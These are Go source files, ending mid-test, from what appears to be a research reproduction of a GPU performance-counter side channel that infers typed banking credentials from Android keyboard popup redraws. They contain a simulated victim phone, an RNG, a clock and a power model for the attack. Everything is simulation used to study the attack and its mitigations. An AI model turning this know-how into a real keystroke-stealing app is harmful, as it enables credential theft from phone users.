	xs := []string{"a", "b", "c"}
	counts := map[string]int{}
	for i := 0; i < 300; i++ {
		counts[Pick(r, xs)]++
	}
	for _, x := range xs {
		if counts[x] == 0 {
			t.Fatalf("Pick never chose %q", x)
		}
	}
}

func TestQueueOrdering(t *testing.T) {
	var q Queue
	q.Push(Event{At: 30, Kind: "c"})
	q.Push(Event{At: 10, Kind: "a"})
	q.Push(Event{At: 20, Kind: "b"})
	q.Push(Event{At: 10, Kind: "a2"}) // tie: insertion order
	got := q.Drain()
	kinds := []string{"a", "a2", "b", "c"}
	if len(got) != 4 {
		t.Fatalf("drained %d events", len(got))
	}
	for i, k := range kinds {
		if got[i].Kind != k {
			t.Fatalf("event %d = %q, want %q", i, got[i].Kind, k)
		}
	}
}

func TestQueuePeek(t *testing.T) {
	var q Queue
	if _, ok := q.Peek(); ok {
		t.Fatal("Peek on empty queue returned ok")
	}
	q.Push(Event{At: 5, Kind: "x"})
	e, ok := q.Peek()
	if !ok || e.Kind != "x" || q.Len() != 1 {
		t.Fatalf("Peek = %+v ok=%v len=%d", e, ok, q.Len())
	}
}

func TestQueueStableUnderInterleaving(t *testing.T) {
	var q Queue
	for i := 0; i < 100; i++ {
		q.Push(Event{At: Time(i % 10), Kind: "k", Payload: i})
	}
	prev := Time(-1)
	prevPayload := -1
	for q.Len() > 0 {
		e := q.Pop()
		if e.At < prev {
			t.Fatal("queue not time ordered")
		}
		if e.At == prev && e.Payload.(int) < prevPayload {
			t.Fatal("queue not insertion-stable within equal times")
		}
		prev, prevPayload = e.At, e.Payload.(int)
	}
}
