package sim

import "math"

// Rand is a deterministic pseudo-random source (splitmix64/xoshiro-style)
// with the distribution helpers the simulation needs. It intentionally does
// not wrap math/rand so that the stream is stable across Go releases.
type Rand struct {
	s [4]uint64
}

// NewRand returns a Rand seeded from seed via splitmix64, matching the
// reference xoshiro256** initialization.
func NewRand(seed int64) *Rand {
	r := &Rand{}
	x := uint64(seed)
	next := func() uint64 {
		x += 0x9e3779b97f4a7c15
		z := x
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		return z ^ (z >> 31)
	}
	for i := range r.s {
		r.s[i] = next()
	}
	// A zero state would be absorbing; splitmix cannot produce all-zero
	// from any seed, but guard anyway.
	if r.s[0]|r.s[1]|r.s[2]|r.s[3] == 0 {
		r.s[0] = 1
	}
	return r
}

func rotl(x uint64, k uint) uint64 { return (x << k) | (x >> (64 - k)) }

// Uint64 returns the next value of the xoshiro256** stream.
func (r *Rand) Uint64() uint64 {
	result := rotl(r.s[1]*5, 7) * 9
	t := r.s[1] << 17
	r.s[2] ^= r.s[0]
	r.s[3] ^= r.s[1]
	r.s[1] ^= r.s[2]
	r.s[0] ^= r.s[3]
	r.s[2] ^= t
	r.s[3] = rotl(r.s[3], 45)
	return result
}

// Float64 returns a uniform value in [0, 1).
func (r *Rand) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Intn returns a uniform value in [0, n). It panics if n <= 0.
func (r *Rand) Intn(n int) int {
	if n <= 0 {
		panic("sim: Intn with non-positive n")
	}
	return int(r.Uint64() % uint64(n))
}

// Int63 returns a non-negative 63-bit value.
func (r *Rand) Int63() int64 { return int64(r.Uint64() >> 1) }

// Bool returns true with probability p.
func (r *Rand) Bool(p float64) bool { return r.Float64() < p }

// Norm returns a normally distributed value with the given mean and
// standard deviation (Box-Muller).
func (r *Rand) Norm(mean, std float64) float64 {
	u1 := r.Float64()
	for u1 == 0 {
		u1 = r.Float64()
	}
	u2 := r.Float64()
	z := math.Sqrt(-2*math.Log(u1)) * math.Cos(2*math.Pi*u2)
	return mean + std*z
}

// LogNormal returns exp(N(mu, sigma)); used for human typing intervals,
// which are well known to be log-normally distributed.
func (r *Rand) LogNormal(mu, sigma float64) float64 {
	return math.Exp(r.Norm(mu, sigma))
}

// Exp returns an exponentially distributed value with the given mean.
func (r *Rand) Exp(mean float64) float64 {
	u := r.Float64()
	for u == 0 {
		u = r.Float64()
	}
	return -mean * math.Log(u)
}

// Jitter returns a uniform value in [-amp, +amp].
func (r *Rand) Jitter(amp float64) float64 { return (r.Float64()*2 - 1) * amp }

// Perm returns a random permutation of [0, n).
func (r *Rand) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	for i := n - 1; i > 0; i-- {
		j := r.Intn(i + 1)
		p[i], p[j] = p[j], p[i]
	}
	return p
}

// Pick returns a uniformly chosen element of xs. It panics on empty input.
func Pick[T any](r *Rand, xs []T) T {
	return xs[r.Intn(len(xs))]
}

// Split derives an independent child generator. Use it to give each
// subsystem its own stream so that adding draws in one subsystem does not
// perturb another.
func (r *Rand) Split() *Rand {
	return NewRand(int64(r.Uint64()))
}

// TaskSeed derives the seed of parallel task number task from a base
// seed. It is a pure function of (seed, task) — never of scheduling — so
// a worker pool that seeds each task this way produces results that are
// byte-identical at any worker count. The mix is one splitmix64 round
// over the base seed offset by the task's golden-ratio stride, giving
// well-separated streams even for adjacent task indices.
func TaskSeed(seed int64, task int) int64 {
	z := uint64(seed) + uint64(task+1)*0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}
