// Package sim provides the simulation foundation shared by every substrate:
// a microsecond-resolution simulated clock, a deterministic random source,
// and a small discrete-event queue.
//
// All experiments in this repository are driven by simulated time so that
// results are bit-for-bit reproducible for a given seed. Wall-clock time is
// only used when measuring the attacker's own computation cost (Fig 25).
package sim

import (
	"fmt"
	"time"
)

// Time is a simulated timestamp in microseconds since the start of the
// simulation. Microsecond resolution comfortably resolves both vsync
// boundaries (8333 us at 120 Hz) and GPU draw durations (hundreds of us).
type Time int64

// Common durations expressed in simulated microseconds.
const (
	Microsecond Time = 1
	Millisecond Time = 1000
	Second      Time = 1000 * Millisecond
	Minute      Time = 60 * Second
	Hour        Time = 60 * Minute
)

// FromDuration converts a wall-clock duration into simulated time.
func FromDuration(d time.Duration) Time { return Time(d.Microseconds()) }

// Duration converts simulated time into a time.Duration.
func (t Time) Duration() time.Duration { return time.Duration(t) * time.Microsecond }

// Millis reports t as fractional milliseconds.
func (t Time) Millis() float64 { return float64(t) / 1000 }

// Seconds reports t as fractional seconds.
func (t Time) Seconds() float64 { return float64(t) / 1e6 }

// String renders the timestamp with an adaptive unit, e.g. "12.5ms".
func (t Time) String() string {
	switch {
	case t < Millisecond:
		return fmt.Sprintf("%dus", int64(t))
	case t < Second:
		return fmt.Sprintf("%.3gms", t.Millis())
	default:
		return fmt.Sprintf("%.4gs", t.Seconds())
	}
}

// Millis constructs a Time from fractional milliseconds.
func Millis(ms float64) Time { return Time(ms * 1000) }

// Seconds constructs a Time from fractional seconds.
func Seconds(s float64) Time { return Time(s * 1e6) }
