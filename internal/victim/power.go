package victim

import (
	"gpuleak/internal/android"
	"gpuleak/internal/sim"
)

// PowerModel estimates the attack's energy footprint on the victim
// device (§7.6 / Figure 26). The dominant term is not the ioctl itself
// but keeping a little core awake: the monitoring service holds a partial
// wakelock so its polling loop keeps running with the screen state
// unchanged. Inference adds an amortized trickle, and every counter read
// costs one kernel round trip.
type PowerModel struct {
	// WakelockMilliwatts is the continuous cost of the held wakelock plus
	// an idle little core.
	WakelockMilliwatts float64
	// ReadMicrojoules is one PERFCOUNTER_READ ioctl round trip.
	ReadMicrojoules float64
	// InferenceMilliwatts is the amortized classification cost at the
	// default polling rate.
	InferenceMilliwatts float64
}

// DefaultPowerModel matches the Figure-26 measurement conditions.
func DefaultPowerModel() PowerModel {
	return PowerModel{
		WakelockMilliwatts:  95,
		ReadMicrojoules:     28,
		InferenceMilliwatts: 4,
	}
}

// DrainMilliwatts returns the attack's continuous power draw at the given
// polling interval.
func (p PowerModel) DrainMilliwatts(interval sim.Time) float64 {
	if interval <= 0 {
		return p.WakelockMilliwatts + p.InferenceMilliwatts
	}
	readsPerSec := float64(sim.Second) / float64(interval)
	return p.WakelockMilliwatts + p.InferenceMilliwatts + readsPerSec*p.ReadMicrojoules/1000
}

// ExtraBatteryPercent returns the share of the device's battery the
// attack consumes when monitoring for the given duration.
func (p PowerModel) ExtraBatteryPercent(dev android.DeviceModel, interval, duration sim.Time) float64 {
	mw := p.DrainMilliwatts(interval)
	mwh := mw * duration.Seconds() / 3600
	return 100 * mwh / float64(dev.BatteryMilliWattHours)
}
