// Package victim is the discrete-event simulation of the victim
// smartphone: it converts a user input script into the GPU frame timeline
// (popups, echo updates, cursor blinks, notifications, app-switch
// animations, background GPU load) and exposes the resulting performance
// counter register file through a KGSL device file, together with the
// ground-truth event log the experiments score against.
package victim

import (
	"math"
	"sort"

	"gpuleak/internal/adreno"
	"gpuleak/internal/android"
	"gpuleak/internal/geom"
	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/render"
	"gpuleak/internal/sim"
)

// Config selects the device configuration and environment of one session.
type Config struct {
	Device     android.DeviceModel
	Resolution geom.Size // zero value = device default
	RefreshHz  int       // 0 = device default
	Keyboard   *keyboard.Layout
	App        *android.App
	Seed       int64

	// CPULoad and GPULoad are concurrent background workloads in [0, 1]
	// (§7.3).
	CPULoad float64
	GPULoad float64

	// NotifPerMinute is the arrival rate of system notifications (§3.4
	// system noise). Defaults to 2/min when zero.
	NotifPerMinute float64

	// RenderJitter is the relative per-frame variation of rendering work
	// (anti-aliasing, subpixel positioning, shadow sampling make real
	// redraws not bit-identical). 0 disables; real devices sit around
	// 0.003-0.006.
	RenderJitter float64

	// DisablePopups models the §9.1 mitigation (popup feedback turned off
	// in keyboard settings).
	DisablePopups bool
	// Autofill models the §9.3 password-manager/biometric mitigation: the
	// credential is filled in one frame instead of being typed key by key.
	Autofill bool
	// PreLaunch inserts a phase of foreign-app usage of this duration
	// before the target app launches; the attack's monitoring service
	// (Figure 4) must detect the launch before eavesdropping.
	PreLaunch sim.Time
	// DisableCursorBlink removes the cursor-blink noise source (used by
	// controlled experiments).
	DisableCursorBlink bool

	// RenderCache, when non-nil, lets this session share rasterized frame
	// statistics with other sessions of the IDENTICAL configuration (the
	// parallel offline phase runs many short sessions that render the same
	// states). Rendering is a pure function of UI state, so sharing never
	// changes results; per-session RenderJitter is applied after the cache
	// lookup.
	RenderCache *android.StatsCache
}

func (c Config) withDefaults() Config {
	if c.Resolution == (geom.Size{}) {
		c.Resolution = c.Device.DefaultResolution()
	}
	if c.RefreshHz == 0 {
		c.RefreshHz = c.Device.DefaultRefreshHz()
	}
	if c.Keyboard == nil {
		c.Keyboard = keyboard.GBoard
	}
	if c.App == nil {
		c.App = android.Chase
	}
	if c.NotifPerMinute == 0 {
		c.NotifPerMinute = 2
	}
	return c
}

// victimUIPID is the GL context the victim's UI renders under; the
// attacker's process never submits GPU work, which is why the sanctioned
// per-context GL counters (adreno.PerfMonitor) see nothing and the attack
// must read the global registers through the device file (§3.3).
const victimUIPID = 1000

// TruthKind classifies ground-truth events.
type TruthKind int

// Ground-truth event kinds.
const (
	TruthPress TruthKind = iota
	TruthBackspace
	TruthSwitchAway
	TruthSwitchBack
	TruthNotif
)

// TruthEvent is one ground-truth user/system event with the time at which
// its first UI frame was submitted.
type TruthEvent struct {
	At   sim.Time
	Kind TruthKind
	R    rune
}

// Session is a fully materialized victim run: GPU timeline + ground truth.
type Session struct {
	Cfg    Config
	Comp   *android.Compositor
	GPU    *adreno.GPU
	Device *kgsl.Device
	Truth  []TruthEvent

	// LaunchAt is when the target app's first frame renders; the attack
	// starts reading counters here.
	LaunchAt sim.Time
	// End is the time of the last submitted frame.
	End sim.Time

	rng *sim.Rand
}

// frameReq is one pending frame before chronological submission. A zero
// dur means "derive from the pixel workload".
type frameReq struct {
	at    sim.Time
	stats render.FrameStats
	dur   sim.Time
}

// span is a half-open time interval.
type span struct{ from, to sim.Time }

// lenStep records the echo length from a point in time onward.
type lenStep struct {
	at sim.Time
	n  int
}

// New creates a session; call Run to materialize a script.
func New(cfg Config) *Session {
	cfg = cfg.withDefaults()
	gpu := adreno.NewGPU(cfg.Device.GPU)
	dev := kgsl.NewDevice(gpu)
	s := &Session{
		Cfg:    cfg,
		Comp:   android.NewCompositor(cfg.Device, cfg.Resolution, cfg.RefreshHz, cfg.App, cfg.Keyboard),
		GPU:    gpu,
		Device: dev,
		rng:    sim.NewRand(cfg.Seed),
	}
	if cfg.RenderCache != nil {
		s.Comp.ShareCache(cfg.RenderCache)
	}
	if cfg.CPULoad > 0 {
		latRng := s.rng.Split()
		load := cfg.CPULoad
		dev.ReadLatency = func(t sim.Time) sim.Time {
			// Baseline syscall cost plus scheduler preemption: under load
			// the monitoring process loses the CPU with probability ~load
			// and waits out other threads' timeslices.
			d := sim.Time(30)
			if latRng.Bool(0.8 * load * load) {
				d += sim.Time(latRng.Exp(load * 16000)) // multi-ms stalls at 75%+
			}
			return t + d
		}
	}
	return s
}

// Run materializes the script into GPU frames and ground truth. It may be
// called once per session.
func (s *Session) Run(script input.Script) {
	comp := s.Comp
	vsync := comp.VsyncPeriod()
	s.LaunchAt = comp.AlignVsync(16*sim.Millisecond + s.Cfg.PreLaunch)

	var frames []frameReq
	add := func(at sim.Time, st render.FrameStats) {
		if !st.IsZero() {
			frames = append(frames, frameReq{at: at, stats: st})
		}
	}

	// Foreign-app usage before the target app launches: sporadic
	// scrolling/animation frames the monitor must not confuse with the
	// launch fingerprint.
	if s.Cfg.PreLaunch > 0 {
		preRng := s.rng.Split()
		t := comp.AlignVsync(16 * sim.Millisecond)
		i := 0
		for t < s.LaunchAt-200*sim.Millisecond {
			add(comp.AlignVsync(t), comp.SwitchFrameStats((i*3+1)%10, 10))
			t += sim.Time(120_000 + preRng.Intn(400_000))
			i++
		}
	}

	// App launch: full-screen first render (device fingerprint).
	add(s.LaunchAt, comp.LaunchStats())

	// Echo length timeline, page tracking, in-target intervals.
	lenSteps := []lenStep{{0, 0}}
	curLen := 0
	curPage := keyboard.PageLower
	var excursions []span
	pendingAway := sim.Time(-1)

	end := script.End() + 800*sim.Millisecond
	if end < s.LaunchAt+sim.Second {
		end = s.LaunchAt + sim.Second
	}

	if s.Cfg.Autofill {
		// A password manager inserts the whole credential at once: a
		// single field redraw, no popups, no per-key frames. The presses
		// remain ground truth (the credential content), but the GPU sees
		// only one echo update.
		n := 0
		var fillAt sim.Time
		for _, ev := range script.Events {
			if ev.Kind != input.EvPress {
				continue
			}
			if n == 0 {
				fillAt = ev.At
			}
			n++
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(ev.At), Kind: TruthPress, R: ev.R})
		}
		if n > 0 {
			if n > 24 {
				n = 24
			}
			curLen = n
			lenSteps = append(lenSteps, lenStep{fillAt, n})
			add(comp.AlignVsync(fillAt), comp.EchoStats(n, false))
		}
	}

	for _, ev := range script.Events {
		if s.Cfg.Autofill {
			break
		}
		switch ev.Kind {
		case input.EvPress:
			page, ok := s.Cfg.Keyboard.PageFor(ev.R)
			if !ok {
				continue
			}
			if page != curPage {
				// The user taps the shift / ?123 key first; the IME redraws
				// with the new page.
				add(comp.AlignVsync(ev.At-60*sim.Millisecond), comp.KeyboardRedrawStats(page))
				curPage = page
			}
			pressFrame := comp.AlignVsync(ev.At)
			if !s.Cfg.DisablePopups {
				st := comp.PopupShowStats(page, ev.R)
				add(pressFrame, st)
				if comp.KB.Popup.AnimFrames > 1 && s.rng.Bool(comp.KB.Popup.DupProb) {
					// Rich popup entry animation re-renders the same state:
					// a duplicated, equal-magnitude delta (§5.1).
					add(pressFrame+vsync, st)
				}
			}
			release := ev.At + ev.Dur
			curLen++
			if curLen > 24 {
				curLen = 24
			}
			lenSteps = append(lenSteps, lenStep{release, curLen})
			add(comp.AlignVsync(release), comp.EchoStats(curLen, false))
			if !s.Cfg.DisablePopups {
				add(comp.AlignVsync(release)+vsync, comp.PopupHideStats(page, ev.R))
			}
			s.Truth = append(s.Truth, TruthEvent{At: pressFrame, Kind: TruthPress, R: ev.R})

		case input.EvBackspace:
			release := ev.At + ev.Dur
			if curLen > 0 {
				curLen--
			}
			lenSteps = append(lenSteps, lenStep{release, curLen})
			// Backspace has no popup on most keyboards (§5.3): only the
			// echo redraw betrays it.
			add(comp.AlignVsync(release), comp.EchoStats(curLen, false))
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(release), Kind: TruthBackspace})

		case input.EvSwitchAway:
			pendingAway = ev.At
			t := comp.AlignVsync(ev.At)
			for i := 0; i < 10; i++ {
				add(t, comp.SwitchFrameStats(i, 10))
				t += vsync
			}
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(ev.At), Kind: TruthSwitchAway})

		case input.EvSwitchBack:
			// Foreign-app activity between away and back: scrolling and
			// animation frames at irregular intervals.
			if pendingAway >= 0 {
				excursions = append(excursions, span{from: pendingAway, to: ev.At + 300*sim.Millisecond})
				t := comp.AlignVsync(pendingAway) + 12*vsync
				i := 0
				for t < ev.At-100*sim.Millisecond {
					add(comp.AlignVsync(t), comp.SwitchFrameStats((i*5+3)%10, 10))
					t += sim.Time(80_000 + s.rng.Intn(320_000))
					i++
				}
				pendingAway = -1
			}
			t := comp.AlignVsync(ev.At)
			for i := 0; i < 10; i++ {
				add(t, comp.SwitchFrameStats(9-i, 10))
				t += vsync
			}
			// Returning re-renders the target app fully.
			add(t, comp.LaunchStats())
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(ev.At), Kind: TruthSwitchBack})

		case input.EvNotifView:
			// Glancing at the notification bar: a couple of status-bar
			// redraws, not enough to look like an app switch burst.
			add(comp.AlignVsync(ev.At), comp.NotifStats(2))
			add(comp.AlignVsync(ev.At)+3*vsync, comp.NotifStats(3))
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(ev.At), Kind: TruthNotif})
		}
	}

	// Cursor blinking: strict 0.5 s cadence while the field is focused
	// (§5.3). Suppressed during excursions.
	if !s.Cfg.DisableCursorBlink {
		on := false
		for t := s.LaunchAt + 500*sim.Millisecond; t < end; t += 500 * sim.Millisecond {
			if inSpan(excursions, t) {
				continue
			}
			on = !on
			add(comp.AlignVsync(t), comp.CursorStats(lenAt(lenSteps, t), on))
		}
	}

	// System notifications: Poisson arrivals.
	if s.Cfg.NotifPerMinute > 0 {
		notifRng := s.rng.Split()
		t := s.LaunchAt
		icons := 0
		for {
			t += sim.Time(notifRng.Exp(float64(sim.Minute) / s.Cfg.NotifPerMinute))
			if t >= end {
				break
			}
			icons = icons%4 + 1
			add(comp.AlignVsync(t), comp.NotifStats(icons))
			s.Truth = append(s.Truth, TruthEvent{At: comp.AlignVsync(t), Kind: TruthNotif})
		}
	}

	// Concurrent GPU workload (§7.3): a background 3D renderer draws a
	// frame into its own (small) surface with probability GPULoad per
	// vsync. The utilization knob controls how often the GPU is busy with
	// foreign work; each foreign frame also leaks a modest amount into
	// the global counters.
	if s.Cfg.GPULoad > 0 {
		loadRng := s.rng.Split()
		base := comp.LaunchStats()
		for t := s.LaunchAt; t < end; t += vsync {
			if !loadRng.Bool(s.Cfg.GPULoad) {
				continue
			}
			// Foreign frames vary over two orders of magnitude (a 3D app
			// alternates cheap incremental frames with full scene
			// redraws); log-uniform magnitude reproduces the §7.3 curve.
			u := loadRng.Float64()
			f := 0.00022 * s.Cfg.GPULoad * math.Pow(10, 1.3*u)
			st := scaleStats(base, f)
			at := t + sim.Time(loadRng.Intn(int(vsync/2)+1))
			dur := sim.Time(float64(vsync) * s.Cfg.GPULoad * 0.9)
			frames = append(frames, frameReq{at: at, stats: st, dur: dur})
		}
	}

	// PNC-style decorative login animation (§9.3): a ~10 fps ornament.
	if s.Cfg.App.Animated {
		phase := 0
		for t := s.LaunchAt + vsync; t < end; t += 6 * vsync {
			if inSpan(excursions, t) {
				continue
			}
			add(t, comp.AnimFrameStats(phase))
			phase++
		}
	}

	// Submit chronologically, applying render jitter.
	sort.SliceStable(frames, func(i, j int) bool { return frames[i].at < frames[j].at })
	jitterRng := s.rng.Split()
	for _, f := range frames {
		st := f.stats
		if s.Cfg.RenderJitter > 0 {
			eps := jitterRng.Norm(0, s.Cfg.RenderJitter)
			if eps < -0.1 {
				eps = -0.1
			}
			if eps > 0.1 {
				eps = 0.1
			}
			st = scaleStats(st, 1+eps)
		}
		dur := f.dur
		if dur == 0 {
			dur = comp.FrameDuration(st, s.Cfg.GPULoad)
		}
		s.GPU.Submit(adreno.Frame{Start: f.at, End: f.at + dur, PID: victimUIPID, Stats: st})
	}
	sort.SliceStable(s.Truth, func(i, j int) bool { return s.Truth[i].At < s.Truth[j].At })
	s.End = end
	if le := s.GPU.LastEnd(); le > s.End {
		s.End = le
	}
}

func inSpan(spans []span, t sim.Time) bool {
	for _, sp := range spans {
		if t >= sp.from && t < sp.to {
			return true
		}
	}
	return false
}

func lenAt(steps []lenStep, t sim.Time) int {
	n := 0
	for _, st := range steps {
		if st.at > t {
			break
		}
		n = st.n
	}
	return n
}

// scaleStats shrinks frame statistics by a factor in (0, 1].
func scaleStats(st render.FrameStats, f float64) render.FrameStats {
	mul := func(v uint64) uint64 { return uint64(float64(v) * f) }
	return render.FrameStats{
		VisiblePrimAfterLRZ:   mul(st.VisiblePrimAfterLRZ),
		FullTiles8x8:          mul(st.FullTiles8x8),
		PartialTiles8x8:       mul(st.PartialTiles8x8),
		VisiblePixelAfterLRZ:  mul(st.VisiblePixelAfterLRZ),
		SupertileActiveCycles: mul(st.SupertileActiveCycles),
		SuperTiles:            mul(st.SuperTiles),
		Tiles8x4:              mul(st.Tiles8x4),
		FullyCovered8x4:       mul(st.FullyCovered8x4),
		PCPrimitives:          mul(st.PCPrimitives),
		SPComponents:          mul(st.SPComponents),
		LRZAssignPrimitives:   mul(st.LRZAssignPrimitives),
		TotalPixels:           mul(st.TotalPixels),
	}
}

// Open gives the attacking application a handle on the GPU device file.
func (s *Session) Open() (*kgsl.File, error) {
	return s.Device.Open(kgsl.UntrustedApp(4242))
}

// Presses returns the ground-truth key presses in time order.
func (s *Session) Presses() []TruthEvent {
	var out []TruthEvent
	for _, e := range s.Truth {
		if e.Kind == TruthPress {
			out = append(out, e)
		}
	}
	return out
}

// TypedText returns the ground-truth credential after corrections.
func (s *Session) TypedText() string {
	var out []rune
	for _, e := range s.Truth {
		switch e.Kind {
		case TruthPress:
			out = append(out, e.R)
		case TruthBackspace:
			if len(out) > 0 {
				out = out[:len(out)-1]
			}
		}
	}
	return string(out)
}
