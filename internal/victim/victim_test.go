package victim

import (
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/android"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
)

func runSession(t *testing.T, cfg Config, text string) *Session {
	t.Helper()
	s := New(cfg)
	r := sim.NewRand(cfg.Seed + 1)
	script := input.Typing(text, input.Volunteers[0], input.SpeedAny, r, 500*sim.Millisecond)
	s.Run(script)
	return s
}

func baseConfig() Config {
	return Config{Device: android.OnePlus8Pro, Seed: 42, NotifPerMinute: 0.5}
}

func TestSessionProducesFrames(t *testing.T) {
	s := runSession(t, baseConfig(), "hello")
	if s.GPU.FrameCount() < 11 { // launch + 5*(popup, echo, hide) minimum
		t.Fatalf("frame count = %d", s.GPU.FrameCount())
	}
	if s.End <= s.LaunchAt {
		t.Fatal("session has no duration")
	}
}

func TestGroundTruthMatchesScript(t *testing.T) {
	s := runSession(t, baseConfig(), "secret99")
	presses := s.Presses()
	if len(presses) != 8 {
		t.Fatalf("press count = %d", len(presses))
	}
	if got := s.TypedText(); got != "secret99" {
		t.Fatalf("TypedText = %q", got)
	}
	for i := 1; i < len(presses); i++ {
		if presses[i].At < presses[i-1].At {
			t.Fatal("presses out of order")
		}
	}
}

func TestFramesChronological(t *testing.T) {
	s := runSession(t, baseConfig(), "abcdefgh")
	frames := s.GPU.Frames()
	for i := 1; i < len(frames); i++ {
		if frames[i].Start < frames[i-1].Start {
			t.Fatal("GPU frames out of order")
		}
	}
}

func TestCountersAdvanceOnPress(t *testing.T) {
	s := runSession(t, baseConfig(), "w")
	f, err := s.Open()
	if err != nil {
		t.Fatal(err)
	}
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	press := s.Presses()[0].At
	before, _ := f.ReadSelected(press - 5*sim.Millisecond)
	after, _ := f.ReadSelected(press + 50*sim.Millisecond)
	if after[0] <= before[0] {
		t.Fatal("press did not move the prim counter")
	}
}

func TestSameKeySameDelta(t *testing.T) {
	// §3.4: repeated presses of the same key produce the same delta.
	// Use a quiet config (no notifications, no blink) to isolate popups.
	cfg := baseConfig()
	cfg.NotifPerMinute = -1 // negative disables (guard in code treats >0)
	cfg.DisableCursorBlink = true
	cfg.Seed = 7
	s := New(cfg)
	r := sim.NewRand(3)
	script := input.Typing("kk", input.Volunteers[1], input.SpeedSlow, r, 500*sim.Millisecond)
	s.Run(script)
	f, _ := s.Open()
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	p := s.Presses()
	d1 := deltaAround(t, f, p[0].At)
	d2 := deltaAround(t, f, p[1].At)
	if d1 != d2 {
		t.Fatalf("same-key deltas differ: %d vs %d", d1, d2)
	}
	if d1 == 0 {
		t.Fatal("zero popup delta")
	}
}

func deltaAround(t *testing.T, f interface {
	ReadSelected(sim.Time) ([adreno.NumSelected]uint64, error)
}, at sim.Time) uint64 {
	t.Helper()
	before, err := f.ReadSelected(at - 2*sim.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	after, err := f.ReadSelected(at + 30*sim.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	return after[0] - before[0]
}

func TestDifferentKeysDifferentDeltas(t *testing.T) {
	cfg := baseConfig()
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	s := New(cfg)
	r := sim.NewRand(4)
	script := input.Typing("wn", input.Volunteers[1], input.SpeedSlow, r, 500*sim.Millisecond)
	s.Run(script)
	f, _ := s.Open()
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	p := s.Presses()
	dw := deltaAround(t, f, p[0].At)
	dn := deltaAround(t, f, p[1].At)
	if dw == dn {
		t.Fatalf("'w' and 'n' deltas equal: %d", dw)
	}
}

func TestDisablePopupsRemovesPopupFrames(t *testing.T) {
	quiet := baseConfig()
	quiet.NotifPerMinute = -1
	quiet.DisableCursorBlink = true
	with := New(quiet)
	r1 := sim.NewRand(5)
	with.Run(input.Typing("abc", input.Volunteers[0], input.SpeedAny, r1, 500*sim.Millisecond))

	quiet.DisablePopups = true
	without := New(quiet)
	r2 := sim.NewRand(5)
	without.Run(input.Typing("abc", input.Volunteers[0], input.SpeedAny, r2, 500*sim.Millisecond))

	if without.GPU.FrameCount() >= with.GPU.FrameCount() {
		t.Fatalf("popup disabling did not reduce frames: %d vs %d",
			without.GPU.FrameCount(), with.GPU.FrameCount())
	}
}

func TestGPULoadAddsFrames(t *testing.T) {
	idle := runSession(t, baseConfig(), "abc")
	loaded := baseConfig()
	loaded.GPULoad = 0.5
	l := runSession(t, loaded, "abc")
	if l.GPU.FrameCount() <= idle.GPU.FrameCount()*2 {
		t.Fatalf("GPU load frames missing: %d vs %d", l.GPU.FrameCount(), idle.GPU.FrameCount())
	}
}

func TestCPULoadDelaysReads(t *testing.T) {
	cfg := baseConfig()
	cfg.CPULoad = 0.9
	s := runSession(t, cfg, "abc")
	f, _ := s.Open()
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	// With 90% CPU load the effective read time is often shifted by
	// milliseconds; detect by comparing against an unloaded twin.
	cfg2 := baseConfig()
	s2 := runSession(t, cfg2, "abc")
	f2, _ := s2.Open()
	if err := f2.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	diffs := 0
	for i := 0; i < 200; i++ {
		at := s.LaunchAt + sim.Time(i)*8*sim.Millisecond
		a, _ := f.ReadSelected(at)
		b, _ := f2.ReadSelected(at)
		if a != b {
			diffs++
		}
	}
	if diffs == 0 {
		t.Fatal("CPU load had no observable effect")
	}
}

func TestAppSwitchProducesBurst(t *testing.T) {
	cfg := baseConfig()
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	s := New(cfg)
	script := input.Script{Events: []input.Event{
		{Kind: input.EvPress, R: 'a', At: 500 * sim.Millisecond, Dur: 80 * sim.Millisecond},
		{Kind: input.EvSwitchAway, At: sim.Second},
		{Kind: input.EvSwitchBack, At: 4 * sim.Second},
		{Kind: input.EvPress, R: 'b', At: 5 * sim.Second, Dur: 80 * sim.Millisecond},
	}}
	s.Run(script)
	// Count frames in the switch-away burst window: ~10 within 200 ms.
	n := 0
	for _, f := range s.GPU.Frames() {
		if f.Start >= sim.Second && f.Start < sim.Second+250*sim.Millisecond {
			n++
		}
	}
	if n < 8 {
		t.Fatalf("switch burst frames = %d, want >= 8", n)
	}
	if got := s.TypedText(); got != "ab" {
		t.Fatalf("TypedText = %q", got)
	}
}

func TestBackspaceReducesEcho(t *testing.T) {
	cfg := baseConfig()
	s := New(cfg)
	script := input.Script{Events: []input.Event{
		{Kind: input.EvPress, R: 'a', At: 500 * sim.Millisecond, Dur: 80 * sim.Millisecond},
		{Kind: input.EvPress, R: 'b', At: sim.Second, Dur: 80 * sim.Millisecond},
		{Kind: input.EvBackspace, At: 2 * sim.Second, Dur: 80 * sim.Millisecond},
	}}
	s.Run(script)
	if got := s.TypedText(); got != "a" {
		t.Fatalf("TypedText = %q, want \"a\"", got)
	}
}

func TestUppercaseTriggersPageSwitch(t *testing.T) {
	cfg := baseConfig()
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	lower := New(cfg)
	r := sim.NewRand(6)
